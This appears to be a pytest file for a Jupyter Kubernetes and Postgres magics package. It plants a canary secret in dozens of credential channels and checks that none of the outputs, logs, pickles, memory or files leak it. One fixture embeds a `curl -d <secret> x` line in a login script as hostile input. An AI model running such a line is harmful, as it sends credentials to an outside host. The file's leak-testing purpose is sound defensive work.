"""Every channel by which a secret comes in, and every output in which it could come out again.

A channel puts the canary where a secret comes from, and gives cells that use it: some succeed, some fail. Whatever they leave
behind is looked through, in each of the ways in which a canary can be written.
"""

from __future__ import annotations

import base64
import gc
import json
import logging
import os
import pickle
import sys
import threading
import traceback
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from types import FrameType
from typing import Any
from urllib.parse import quote

import pytest

from sspcloud_magics import log_file, session
from sspcloud_magics.cluster.cluster import find_cluster
from sspcloud_magics.errors import UsageProblem
from sspcloud_magics.secret import Secret
from sspcloud_magics.session import session as session_module
from sspcloud_magics.widgets import snapshots
from sspcloud_magics.widgets.controller import Controller
from tests.cluster import tokens
from tests.magics.conftest import Notebook
from tests.support.api_server import ApiServer, Asked
from tests.support.api_server import status as status_answer

pytestmark = pytest.mark.slow

CANARY = "c4naryInACoalMine"
V1 = "client.authentication.k8s.io/v1"
PODS, ME = "/api/v1/namespaces/default/pods", "/apis/authentication.k8s.io/v1/selfsubjectreviews"
# IPython's modes of a traceback. "Verbose" has all that "Context" has, and the variables.
MODES = ("Plain", "Verbose")
CELLS = (
    "%k8s_whoami",
    "%k8s_pods",
    "%k8s_doctor",
    "%k8s_doctor --json --redacted",
    "cluster = session.current_cluster()\ncluster",
    # What a debugger and a table of variables show of what a cell has left behind.
    "%whos",
    "access = cluster.access()\naccess",
    "import copy; copy.deepcopy(access)",
)


def list_spellings(secret: str) -> list[str]:
    """Return how a secret may be written: as it is, in base64 at any offset, and for a URL."""
    data = secret.encode()
    encoded = [base64.b64encode(b"x" * offset + data).decode()[4:-4] for offset in range(3)]
    return [secret, quote(secret), *encoded]


@dataclass
class Stage:
    """What a channel needs."""

    api: ApiServer
    folder: Path
    kubeconfig: Callable[..., Path]
    environ: pytest.MonkeyPatch
    cells: list[str] = field(default_factory=lambda: list(CELLS))

    def user(self, user: dict[str, Any], **cluster: Any) -> None:
        """Use a kubeconfig with this user."""
        here = {
            "server": self.api.url,
            "certificate-authority": str(self.api.ca_file(self.folder)),
            **cluster,
        }
        self.environ.setenv("KUBECONFIG", str(self.kubeconfig(cluster=here, user=user)))

    def file(self, text: str, name: str = "secret-file", mode: int = 0o600) -> Path:
        """Write a file."""
        file = self.folder / name
        file.write_text(text)
        file.chmod(mode)
        return file

    def plugin(self, body: str, **more: Any) -> None:
        """Use a login command that runs this Python."""
        command = self.file(f"#!{sys.executable} -IS\nimport json, sys\n{body}\n", "login", 0o700)
        self.user({"exec": {"apiVersion": V1, "command": str(command), **more}})


def credential(**status: str) -> str:
    return f"print(json.dumps({{'apiVersion': {V1!r}, 'kind': 'ExecCredential', 'status': {status!r}}}))"


def jwt(**more: Any) -> str:
    """Return a token whose signature is the canary."""
    head, claims, _ = tokens.token(iss="https://127.0.0.1:1", aud="k8s", sub="bob", **more).split(".")
    return f"{head}.{claims}.{CANARY}"


def oidc(**config: str) -> dict[str, Any]:
    told = {"idp-issuer-url": "https://127.0.0.1:1", "client-id": "k8s", "id-token": jwt(exp=1), **config}
    return {"auth-provider": {"name": "oidc", "config": told}}


def login_script(token: str, more: str = "") -> str:
    return (
        f"kubectl config set-cluster c --server=https://127.0.0.1:1\n"
        f"kubectl config set-credentials me --token={token}\n"
        "kubectl config set-context c --user=me --cluster=c\n"
        f"kubectl config use-context c\n{more}"
    )


def service_account(stage: Stage, token: str) -> None:
    mount = stage.folder / "mount"
    mount.mkdir()
    (mount / "token").write_text(token)
    (mount / "ca.crt").write_text(stage.api.ca_pem)
    host, port = stage.api.url.removeprefix("https://").split(":")
    environ = {"KUBERNETES_SERVICE_HOST": host, "KUBERNETES_SERVICE_PORT": port}
    session_module.session.cluster = find_cluster(mount=mount, environ=environ)


def a_pasted_script(stage: Stage, text: str) -> None:
    del stage
    controller = Controller(PASTED.append)
    controller.receive({"do": "log_in", "script": text, "key": "log_in", "id": "1"})
    for thread in [each for each in threading.enumerate() if each.name == "sspcloud-command"]:
        thread.join()
    controller.scheduler._turn()
    assert controller.runner.outcomes()
    PASTED.append({"controller": repr([vars(each) for each in (controller.scheduler, controller.runner)])})
    controller.close()


PASTED: list[dict[str, Any]] = []
FROM_URL = (
    "from sspcloud_magics.magics.querying import _read_url\n"
    "from sspcloud_magics.databases.credentials import parse_url\n"
    "parse_url(_read_url('DATABASE_URL'))"
)
TYPED = (
    "from sspcloud_magics.databases.credentials import ask_credentials\n"
    "from sspcloud_magics.databases.discovery import Database\n"
    "ask_credentials('bob', Database('db', 'user-alice', 'postgres', 'db-rw', 5432), lambda _prompt: held[0].reveal())"
)

LOGIN = (
    "from sspcloud_magics.databases.postgres.session.connection import DatabaseConnection\n"
    "from sspcloud_magics.databases.discovery import Database\n"
    "from sspcloud_magics.databases.postgres.libpq import Login\n"
    "from sspcloud_magics.secret import Secret\n"
    "DatabaseConnection(Database('db', 'user-alice', 'postgres', 'db-rw', 5432), "
    "Login(host='db-rw.svc', address='127.0.0.1', port=1, user='bob', password={password}, dbname='d'))"
)

CHANNELS: dict[str, Callable[[Stage], object]] = {
    "kubeconfig token": lambda stage: stage.user({"token": CANARY}),
    "kubeconfig token with a line end": lambda stage: stage.user({"token": f"{CANARY}\nX"}),
    "kubeconfig token in a list": lambda stage: stage.user({"token": [CANARY]}),
    "kubeconfig that is no YAML": lambda stage: stage.environ.setenv(
        "KUBECONFIG", str(stage.file(f"users: [{{token: {CANARY}"))
    ),
    "kubeconfig of another shape": lambda stage: stage.environ.setenv(
        "KUBECONFIG", str(stage.file(json.dumps({"users": [{"token": CANARY}]})))
    ),
    "client key": lambda stage: stage.user(
        {
            "client-certificate-data": base64.b64encode(b"x").decode(),
            "client-key-data": base64.b64encode(CANARY.encode()).decode(),
        }
    ),
    "client key that is no text": lambda stage: stage.user(
        {
            "client-certificate-data": "eA==",
            "client-key-data": base64.b64encode(CANARY.encode() + b"\xff").decode(),
        }
    ),
    "basic password": lambda stage: stage.user({"username": "bob", "password": CANARY}),
    "token file": lambda stage: stage.user({"tokenFile": str(stage.file(CANARY))}),
    "token file of two lines": lambda stage: stage.user({"tokenFile": str(stage.file(f"{CANARY}\nX"))}),
    "exec plugin": lambda stage: stage.plugin(credential(token=CANARY)),
    "exec plugin with a line end": lambda stage: stage.plugin(credential(token=f"{CANARY}\nX")),
    "exec plugin that prints something else": lambda stage: stage.plugin(f"print({CANARY!r})"),
    "exec plugin with a key": lambda stage: stage.plugin(
        credential(clientCertificateData="x", clientKeyData=CANARY)
    ),
    "exec plugin that fails": lambda stage: stage.plugin(f"print({CANARY!r}, file=sys.stderr); sys.exit(1)"),
    "exec plugin's argument": lambda stage: stage.plugin("sys.exit(1)", args=["--password", CANARY]),
    "exec plugin's variable": lambda stage: stage.plugin(
        "sys.exit(1)", env=[{"name": "PASSWORD", "value": CANARY}]
    ),
    "exec plugin's malformed variable": lambda stage: stage.plugin("", env=[{"name": CANARY}]),
    "exec plugin's nested answer": lambda stage: stage.plugin(f"print('[' * 200_000, {CANARY!r})"),
    "exec plugin that prints without end": lambda stage: stage.plugin(
        f"while True: print({CANARY!r} * 1000)"
    ),
    "service account": lambda stage: service_account(stage, CANARY),
    "service account with a line end": lambda stage: service_account(stage, f"{CANARY}\nX"),
    "OIDC tokens": lambda stage: stage.user(oidc(**{"refresh-token": CANARY, "client-secret": CANARY})),
    "OIDC ID token with a line end": lambda stage: stage.user(oidc(**{"id-token": f"{CANARY}\n.b.c"})),
    "OIDC refresh token with a line end": lambda stage: stage.user(oidc(**{"refresh-token": f"{CANARY}\nX"})),
    "another auth provider": lambda stage: stage.user(
        {"auth-provider": {"name": "gcp", "config": {"access-token": CANARY}}}
    ),
    "login script": lambda stage: stage.cells.insert(
        0, f"%k8s_login {stage.file(login_script(CANARY), 'config.sh')}"
    ),
    "login script with a foreign line": lambda stage: stage.cells.insert(
        0, f"%k8s_login {stage.file(login_script(CANARY, f'curl -d {CANARY} x'), 'config.sh')}"
    ),
    "login script with a line end": lambda stage: stage.cells.insert(
        0, f"%k8s_login {stage.file(login_script(chr(34) + CANARY + chr(10) + 'X' + chr(34)), 'config.sh')}"
    ),
    "pasted script": lambda stage: a_pasted_script(stage, login_script(CANARY)),
    "pasted script with a foreign line": lambda stage: a_pasted_script(stage, login_script(CANARY, CANARY)),
    "HTTPS_PROXY": lambda stage: set_proxy(stage, f"http://bob:{CANARY}@127.0.0.1:1"),
    "https_proxy": lambda stage: set_proxy(stage, f"http://bob:{CANARY}@127.0.0.1:1", "https_proxy"),
    "HTTPS_PROXY without a scheme": lambda stage: set_proxy(stage, f"bob:{CANARY}@127.0.0.1:1"),
    "HTTPS_PROXY of SOCKS": lambda stage: set_proxy(stage, f"socks5://bob:{CANARY}@127.0.0.1:1"),
    "HTTPS_PROXY with a port that is none": lambda stage: set_proxy(stage, f"http://bob@127.0.0.1:{CANARY}"),
    "HTTPS_PROXY with a token": lambda stage: set_proxy(stage, f"http://{CANARY}@127.0.0.1:1"),
    "HTTP_PROXY": lambda stage: set_proxy(
        stage, f"http://bob:{CANARY}@127.0.0.1:1", "HTTP_PROXY", "http://api.example"
    ),
    "ALL_PROXY": lambda stage: set_proxy(stage, f"socks5h://bob:{CANARY}@127.0.0.1:1", "ALL_PROXY"),
    "all_proxy": lambda stage: set_proxy(stage, f"http://bob:{CANARY}@127.0.0.1:1", "all_proxy"),
    "NO_PROXY": lambda stage: set_proxy(stage, f"bob:{CANARY}@x", "NO_PROXY"),
    "HTTPS_PROXY with a #": lambda stage: set_proxy(stage, f"http://bob:{CANARY}#et@127.0.0.1:1"),
    "proxy-url": lambda stage: stage.user(
        {"token": "t"}, **{"proxy-url": f"http://bob:{CANARY}@127.0.0.1:1"}
    ),
    "proxy-url with a /": lambda stage: stage.user(
        {"token": "t"}, **{"proxy-url": f"http://bob:{CANARY}/x@127.0.0.1:1"}
    ),
    "proxy-url of SOCKS": lambda stage: stage.user(
        {"token": "t"}, **{"proxy-url": f"socks5://bob:{CANARY}@127.0.0.1:1"}
    ),
    "proxy-url of a login command": lambda stage: stage.user(
        {"exec": {"apiVersion": V1, "command": "false", "provideClusterInfo": True}},
        **{"proxy-url": f"http://bob:{CANARY}@127.0.0.1:1"},
    ),
    "kubeconfig that nests": lambda stage: stage.environ.setenv(
        "KUBECONFIG", str(stage.file(f"users: {'[' * 200}{CANARY}{']' * 200}"))
    ),
    "impersonation": lambda stage: stage.user({"token": "t", "as-user-extra": {"reason": [CANARY]}}),
    "unknown field": lambda stage: stage.user({"token": "t", "password-of-before": CANARY}),
    "server with a password": lambda stage: stage.user({"token": "t"}, server=f"https://bob:{CANARY}@x"),
    "server with a password and a #": lambda stage: stage.user(
        {"token": "t"}, server=f"https://b:{CANARY}#@x"
    ),
    "database URL": lambda stage: database_url(stage, f"postgresql://bob:{CANARY}@host/db"),
    "database URL without a user": lambda stage: database_url(stage, f"postgresql://:{CANARY}@host/db"),
    "database URL that is none": lambda stage: database_url(stage, f"postgresql://bob:{CANARY}%zz@host"),
    "database URL of words": lambda stage: database_url(stage, f"user=bob password={CANARY} host=h"),
    "database URL of words that is none": lambda stage: database_url(stage, f"user=bob password='{CANARY}"),
    "PGPASSWORD": lambda stage: of_libpq(stage, PGPASSWORD=CANARY),
    "PGPASSFILE": lambda stage: of_libpq(stage, PGPASSFILE=str(stage.file(f"*:*:*:*:{CANARY}", "pgpass"))),
    "PGSERVICEFILE": lambda stage: of_libpq(
        stage,
        PGSERVICE="s",
        PGSERVICEFILE=str(stage.file(f"[s]\npassword={CANARY}\n", "pg_service.conf")),
    ),
    "PGSERVICEFILE that is none": lambda stage: of_libpq(
        stage, PGSERVICE="s", PGSERVICEFILE=str(stage.file(f"[s]\n{CANARY}\n", "pg_service.conf"))
    ),
    "password of a database that refuses": lambda stage: stage.cells.insert(
        0, LOGIN.format(password="held[0]")
    ),
    "typed password": lambda stage: stage.cells.insert(0, TYPED),
    "typed password with NUL": lambda stage: stage.cells.insert(
        0, TYPED.replace("reveal()", "reveal() + '\\0'")
    ),
    "Secret of the cluster": lambda stage: secret_of_the_cluster(
        stage, {"name": "s", "namespace": "default"}
    ),
    "Secret of another shape": lambda stage: secret_of_the_cluster(stage, {"name": "s"}),
}


def set_proxy(
    stage: Stage, url: str, variable: str = "HTTPS_PROXY", server: str = "https://127.0.0.2:1"
) -> None:
    stage.environ.setenv(variable, url)
    stage.user({"token": "t"}, server=server)


def of_libpq(stage: Stage, **environ: str) -> None:
    """Have libpq find a password, or a file with one, in its environment."""
    for name, value in environ.items():
        stage.environ.setenv(name, value)
    stage.cells.insert(0, LOGIN.format(password="Secret('typed')"))


def database_url(stage: Stage, url: str) -> None:
    stage.environ.setenv("DATABASE_URL", url)
    stage.cells.insert(0, FROM_URL)


def secret_of_the_cluster(stage: Stage, metadata: dict[str, str]) -> None:
    stage.user({"token": "t"})
    data = {"password": base64.b64encode(CANARY.encode()).decode()}
    stage.api.answers["/api/v1/namespaces/default/secrets"] = {
        "items": [{"metadata": metadata, "data": data}]
    }
    stage.cells.append("%databases")


def echo_token(asked: Asked) -> tuple[int, str, bytes]:
    """Answer with what the client has shown."""
    return status_answer(500, f"the token {asked.token} is not known")


def frames(error: BaseException | None) -> Iterator[FrameType]:
    """Yield what a debugger can look at: the frames of an error, and of those that led to it."""
    seen: set[int] = set()
    waiting = [error]
    while waiting:
        each = waiting.pop()
        if each is None or id(each) in seen:
            continue
        seen.add(id(each))
        waiting += [each.__cause__, each.__context__]
        for frame, _line in traceback.walk_tb(each.__traceback__):
            yield frame


def variables(error: BaseException | None) -> str:
    """Return all variables of those frames that are not a test's own, as a debugger prints them."""
    told = []
    for frame in frames(error):
        if f"{os.sep}tests{os.sep}" not in frame.f_code.co_filename:
            for value in list(frame.f_locals.values()):
                with suppress(Exception):
                    told.append(repr(value))
    return "\n".join(told)


def objects_of_ours() -> str:
    """Return the reprs of all objects of this package in memory."""
    told = []
    ours: dict[type, bool] = {}
    for each in gc.get_objects():
        kind = type(each)
        if kind not in ours:
            ours[kind] = str(kind.__module__).startswith("sspcloud_magics")
        if ours[kind]:
            with suppress(Exception):
                told.append(repr(each))
                if kind.__str__ is not object.__str__:  # which returns the repr
                    told.append(str(each))
    return "\n".join(told)


def draw_traceback(notebook: Notebook, error: BaseException, mode: str) -> str:
    """Return IPython's traceback of an error in a mode, without the error's own rendering."""
    drawing = notebook.shell.InteractiveTB
    drawing.set_mode(mode)
    try:
        return "\n".join(drawing.structured_traceback(type(error), error, error.__traceback__))
    finally:
        drawing.set_mode("Verbose")


def pickle_value(value: object) -> str:
    try:
        return pickle.dumps(value).decode("latin-1")
    except Exception as error:  # noqa: BLE001 - a refusal is as good, if it does not say what it refuses
        return f"{error!r}"


def outputs(notebook: Notebook, cell: str, caplog: pytest.LogCaptureFixture) -> dict[str, str]:
    """Run a cell, and return all that it leaves behind."""
    ran = notebook._run(cell, store_history=True)
    error, result = ran.error_in_exec or ran.error_before_exec, ran.result
    shown: dict[str, str] = {"cell": notebook.printed}
    if result is not None:
        bundle, metadata = notebook.shell.display_formatter.format(result)  # type: ignore[union-attr]
        shown |= {"HTML": f"{bundle}{metadata}", "repr": f"{result!r}{result}"}
    if error is not None:
        shown |= {
            "error": f"{error!r}{error}{vars(error)}{error.__context__!r}{error.__cause__!r}",
            "frames": variables(error),
            "panel": json.dumps(snapshots.describe_error(error)),
        }
        shown |= {f"traceback, {mode}": draw_traceback(notebook, error, mode) for mode in MODES}
    cluster = session_module.session.cluster
    shown |= {
        "pickle": pickle_value(error) + pickle_value(result) + pickle_value(cluster),
        "session": f"{cluster!r}{session_module.session!r}{session.recent_use()!r}",
        "log": "\n".join([caplog.text, *(str(vars(record)) for record in caplog.records)]),
        "history": f"{notebook.shell.history_manager.input_hist_raw}{notebook.shell.user_ns['Out']}",  # type: ignore[union-attr]
    }
    with suppress(Exception):
        shown["access"] = f"{session.current_cluster().access()!r}"
    return shown


@pytest.mark.parametrize("channel", CHANNELS)
def test_a_secret_comes_out_nowhere(  # noqa: PLR0917 - fixtures
    notebook: Notebook,
    api: ApiServer,
    tmp_path: Path,
    write_kubeconfig: Callable[..., Path],
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    channel: str,
) -> None:
    caplog.set_level(logging.DEBUG)
    # The log's file lies where all files are looked through.
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    session.configure_log("debug")
    PASTED.clear()
    api.answers |= {PODS: echo_token, ME: {"status": {"userInfo": {"username": "bob"}}}}
    notebook.run("%xmode Verbose")
    stage = Stage(api, tmp_path, write_kubeconfig, monkeypatch)
    notebook.shell.user_ns |= {"held": [Secret(CANARY)], "session": session}
    CHANNELS[channel](stage)
    before = list_leaks(tmp_path)
    found = []
    for cell in stage.cells:
        for output, text in outputs(notebook, cell, caplog).items():
            found += [(cell, output) for canary in list_spellings(CANARY) if canary in text]
    memory, panel = objects_of_ours(), json.dumps(PASTED, default=repr)
    found += [("", "memory") for canary in list_spellings(CANARY) if canary in memory]
    found += [("pasted", "panel") for canary in list_spellings(CANARY) if canary in panel]
    assert found == []
    log = log_file.path()
    assert log is not None
    assert log.is_relative_to(tmp_path)
    session.configure_log("")
    assert list_leaks(tmp_path) == before


def list_leaks(folder: Path, canary: str = CANARY) -> set[Path]:
    """Return the files that contain a canary."""
    files = [file for file in folder.rglob("*") if file.is_file()]
    return {
        file
        for file in files
        if any(each in file.read_text(errors="replace") for each in list_spellings(canary))
    }


def test_the_canaries_would_be_found(notebook: Notebook, caplog: pytest.LogCaptureFixture) -> None:
    """The search finds a canary that a cell reveals, in each kind of output."""
    caplog.set_level(logging.DEBUG)
    notebook.shell.user_ns["held"] = f"[{CANARY}"
    cell = (
        "import logging\nfrom sspcloud_magics.errors import UsageProblem\n"
        f"logging.getLogger('x').debug({CANARY!r})\nprint({CANARY!r})\n"
        f"raise UsageProblem({CANARY!r})"
    )
    shown = outputs(notebook, cell, caplog)
    for output in ("cell", "error", "panel", "pickle", "log", "history"):
        assert CANARY in shown[output], output
    assert CANARY in outputs(notebook, f"{CANARY!r}", caplog)["HTML"]
    shown = outputs(notebook, "import json\njson.loads(held)", caplog)
    assert CANARY in shown["frames"]
    assert CANARY in shown["traceback, Verbose"]
    assert "Traceback" in shown["traceback, Plain"]
    kept = UsageProblem(CANARY)
    assert CANARY in objects_of_ours()
    del kept
    assert all(len(each) > 8 for each in list_spellings(CANARY))


def test_a_canary_in_the_log_would_be_found(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    monkeypatch.setattr(log_file, "without_secrets", str)
    session.configure_log("debug")
    logging.getLogger("sspcloud_magics.cluster").debug(CANARY)
    session.configure_log("")
    assert len(list_leaks(tmp_path)) == 1
